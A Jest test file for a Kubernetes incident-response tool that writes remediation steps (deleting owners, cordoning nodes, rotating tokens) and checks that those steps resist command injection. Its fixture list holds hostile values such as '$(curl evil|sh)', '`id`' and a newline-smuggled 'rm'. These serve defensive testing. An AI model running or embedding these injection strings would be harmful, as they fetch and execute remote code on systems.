import { describe, expect, it } from '@jest/globals';
import type { OwnerLink, Spread, Verdict } from '../../agent/model.ts';
import { nextStepOf } from '../../agent/sinks/next-step.ts';
import {
  allowance,
  awaited,
  closed,
  dossier,
  evidence,
  host,
  hostile,
  link,
  notebook,
  notebookVerdict,
  process,
  standalone,
  unwatched,
  verdict,
} from './samples.ts';

const LOOK = 'kubectl -n alice describe pod nb-0 says more. On node n1, cp /proc/4242/exe keeps a copy of the program.';
const ROTATE = 'and rotate the secrets it could read.';

/** A verdict on a pod with these owners that leads nowhere. */
function ownedBy(chain: readonly OwnerLink[], endsBecause?: string): Verdict {
  const owner = { chain, ...(endsBecause === undefined ? {} : { endsBecause }) };
  return notebookVerdict({ dossier: { owner, spread: closed } });
}

function spreadingBy(part: Partial<Spread>, workload = notebook): Verdict {
  return notebookVerdict({ workload, dossier: { owner: { chain: [] }, spread: { ...closed, ...part } } });
}

describe('what to delete', () => {
  it.each([
    ['the Deployment', [link('ReplicaSet', 'web-1'), link('Deployment', 'web')], 'deployment web'],
    ['the CronJob', [link('Job', 'j-1', 'batch/v1'), link('CronJob', 'j', 'batch/v1')], 'cronjob j'],
    ['the Notebook', [link('StatefulSet', 'nb'), link('Notebook', 'nb', 'kubeflow.org/v1beta1')], 'notebook nb'],
    ['the run', [link('Workflow', 'run-x', 'argoproj.io/v1alpha1')], 'workflow.argoproj.io run-x'],
    [
      'the experiment',
      [link('Trial', 't', 'kubeflow.org/v1beta1'), link('Experiment', 'e', 'kubeflow.org/v1beta1')],
      'experiment.kubeflow.org e',
    ],
    // `kubectl delete service` would take the core Service of that name.
    ['the service of Knative', [link('Service', 's', 'serving.knative.dev/v1')], 'service.serving.knative.dev s'],
  ])('is %s, by a name that kubectl can not mistake', (_, chain, object) => {
    expect(nextStepOf(ownedBy(chain))).toBe(
      `${LOOK} Then kubectl -n alice delete ${object} ends it (deleting only the pod would bring it back), ${ROTATE}`,
    );
  });

  it('is the pod when nothing stands above it', () => {
    expect(nextStepOf(ownedBy([]))).toBe(
      `${LOOK} Then kubectl -n alice delete pod nb-0 ends it (nothing would start it again), ${ROTATE}`,
    );
  });

  it('is not the pod alone when the cluster did not say what stands above it', () => {
    expect(nextStepOf(ownedBy([], '403: pods is forbidden'))).toBe(
      `${LOOK} Then delete what created the pod, since it would start it again, ${ROTATE} What stands above is not known: 403: pods is forbidden.`,
    );
  });

  it('is the last link that is known, with a warning that there may be more', () => {
    expect(nextStepOf(ownedBy([link('ReplicaSet', 'web-1')], '403'))).toContain(
      'delete replicaset web-1 ends it (deleting only the pod would bring it back), and rotate the secrets it could read. What stands above is not known: 403.',
    );
  });

  it('is never the node of a static pod', () => {
    const step = nextStepOf(ownedBy([link('Node', 'n1', 'v1')]));
    expect(step).toContain("take its manifest out of the kubelet's folder on node n1");
    expect(step).not.toContain('delete');
  });

  it.each([
    ['a profile, with its whole namespace', link('Profile', 'alice', 'kubeflow.org/v1'), 'profile.kubeflow.org alice'],
    ['an object of an unknown operator', link('Kafka', 'k', 'kafka.strimzi.io/v1'), 'kafka.kafka.strimzi.io k'],
    ['a kind that only looks known', link('Deployment', 'd', 'example.org/v1'), 'deployment.example.org d'],
  ])('is not %s, before someone looked', (_, top, object) => {
    const step = nextStepOf(ownedBy([top]));
    expect(step).toContain(
      `${top.kind} ${top.name} would start it again: see with kubectl -n alice get ${object} -o yaml what else it holds before you delete it`,
    );
    expect(step).not.toContain(`delete ${object}`);
  });

  it('is left to a person before the owner is known', () => {
    expect(nextStepOf(verdict())).toBe(
      `kubectl -n team-a describe pod trainer-0 says whose it is. On node n1, cp /proc/4242/exe keeps a copy of the program. Then delete what created the pod, since it would start it again, ${ROTATE}`,
    );
  });
});

describe('how it could have spread', () => {
  it('is not mentioned where there is no way', () => {
    expect(nextStepOf(spreadingBy({}))).not.toMatch(/token|taken over/);
  });

  it('by a token: rotate it, and look what it may do and did', () => {
    expect(nextStepOf(spreadingBy({ tokenMounted: true }))).toMatch(
      /, and rotate the secrets it could read\. It has a token of service account default-editor: rotate it \(a bound token ends with its pod, one in a Secret does not\), see what it may do \(kubectl auth can-i --list --as=system:serviceaccount:alice:default-editor -n alice\), and look in the audit log of the API server for what it did\.$/,
    );
  });

  it.each([
    [{ privileged: true }, 'Treat node n1 as taken over, since the container is privileged: '],
    [{ hostPid: true }, 'Treat node n1 as taken over, since the container sees its processes: '],
    [
      { privileged: true, hostPaths: ['/', '/var/run', '/etc', '/opt'] },
      'Treat node n1 as taken over, since the container is privileged and mounts /, /var/run, /etc and 1 more of it: ',
    ],
    [
      { hostPaths: ['/data'] },
      'Treat node n1 as taken over unless that is for reading only, since the container mounts /data of it: ',
    ],
  ])('to the node: %j', (part, expected) => {
    expect(nextStepOf(spreadingBy(part))).toContain(`${expected}kubectl cordon n1, and set it up anew.`);
  });

  it('not by the network of the node alone', () => {
    expect(nextStepOf(spreadingBy({ hostNetwork: true }))).not.toContain('taken over');
  });

  it('counts when it is over too', () => {
    const over = { ...spreadingBy({ tokenMounted: true, privileged: true }), state: 'resolved' as const };
    const step = nextStepOf(over);
    expect(step).toMatch(/^It is quiet now\. Find out how it got in before it comes back\. kubectl -n alice describe/);
    expect(step).toContain('It has a token of service account default-editor');
    expect(step).toContain('Treat node n1 as taken over');
    expect(step).not.toContain(' delete ');
  });
});

describe('without the names of the pod', () => {
  it.each([
    [
      'that the cluster has not told',
      awaited,
      'The cluster has not told which pod this container is of: on node n1, crictl inspect cccccccccccc says whose it is. ',
    ],
    [
      'that no cluster could tell',
      unwatched,
      'No cluster is watched that could name the pod: on node n1, crictl inspect cccccccccccc says whose it is. ',
    ],
    [
      'since there is no pod',
      standalone(),
      'On node n1, crictl inspect cccccccccccc (or docker, podman) says whose it is. ',
    ],
  ])('%s, the runtime is asked', (_, workload, expected) => {
    expect(nextStepOf(verdict({ workload }))).toBe(
      `${expected}On node n1, cp /proc/4242/exe keeps a copy of the program. Then stop the container, ${ROTATE}`,
    );
  });
});

describe('a command that somebody will paste', () => {
  const bad = ['$(curl evil|sh)', 'a;b', 'a b', '-A', '`id`', 'a&b', 'nb\nrm', 'Nb', hostile];

  it.each(bad)('does not hold the name %j', (name) => {
    const workload = { ...notebook, node: name, namespace: name, pod: name };
    const spread = { ...closed, tokenMounted: true, serviceAccount: name, privileged: true };
    const steps = [
      nextStepOf(ownedBy([link('Deployment', name)])),
      nextStepOf(ownedBy([link('Deployment', 'web', `${name}/v1`)])),
      nextStepOf(notebookVerdict({ workload, dossier: { owner: { chain: [] }, spread } })),
      nextStepOf(spreadingBy({ tokenMounted: true, serviceAccount: name })),
    ].join('\n');
    // Outside of the commands such a name stands in quotes.
    expect(steps.match(/kubectl -n alice [a-z]+ (?!pod nb-0)[^ ]+ [^ ]*/g) ?? []).toEqual([]);
    expect(steps).not.toContain('can-i --list');
    expect(steps).not.toContain('cordon');
  });

  it.each(['Deploy ment', '-o', '$(id)', 'A;'])('does not hold the kind %j', (kind) => {
    expect(nextStepOf(ownedBy([link(kind, 'web')]))).toContain(`Then delete what created the pod (`);
  });

  it('is bounded with all that the API allows', () => {
    const long = 'a'.repeat(253);
    const workload = { ...notebook, node: long, namespace: 'n'.repeat(63), pod: long };
    const spread = {
      ...closed,
      tokenMounted: true,
      serviceAccount: long,
      privileged: true,
      hostPaths: ['/', '/', '/'],
    };
    const full = { owner: { chain: [link('Notebook', long, 'kubeflow.org/v1')] }, spread };
    const step = nextStepOf(notebookVerdict({ workload, dossier: full }));
    expect(step.length).toBeLessThanOrEqual(3_072);
    expect(step).toMatch(/and set it up anew\.$/);
  });
});

describe('a process of the host', () => {
  it.each([
    [
      'is asked of systemd',
      verdict({ workload: host }),
      'On node n1, systemctl status 4242 says what started it, and cp /proc/4242/exe keeps a copy of the program. Then kill it, and look for cron jobs, units and SSH keys that would bring it back.',
    ],
    [
      'is looked for when no evidence names it',
      verdict({ workload: host, evidence: [evidence({ process: undefined } as object)] }),
      'Look at the processes of node n1. Then kill it, and look for cron jobs, units and SSH keys that would bring it back.',
    ],
    [
      'is looked for once it is over',
      verdict({ workload: host, state: 'resolved', evidence: [evidence({ process: process() })] }),
      'It is quiet now. Find out how it got in before it comes back. Look at the processes of node n1.',
    ],
  ])('%s', (_, of, expected) => {
    expect(nextStepOf(of)).toBe(expected);
  });

  it('has no cluster that could say more', () => {
    expect(nextStepOf(verdict({ workload: host, dossier: dossier() }))).not.toContain('kubectl');
  });
});

describe('where there is an exception', () => {
  it('there is nothing to do while it is in force', () => {
    expect(nextStepOf(verdict({ allowance: allowance() }))).toBe(
      'Exception pow-bench allows it until 2026-01-31 (Agreed in OPS-123): nobody is alerted.',
    );
  });

  it('it is to be reviewed once it has expired, before anything else', () => {
    const expired = allowance({ inForce: false });
    const step =
      'Exception pow-bench allowed it until 2026-01-31 and has expired (Agreed in OPS-123): have it reviewed, or go on.';
    expect(nextStepOf(ownedBy([]))).not.toContain('xception');
    expect(nextStepOf({ ...ownedBy([]), allowance: expired })).toBe(`${step} ${nextStepOf(ownedBy([]))}`);
  });

  it('its reason stays on one line', () => {
    expect(nextStepOf(verdict({ allowance: allowance({ reason: hostile }) }))).not.toMatch(/[\n\r\u2028]/);
  });
});
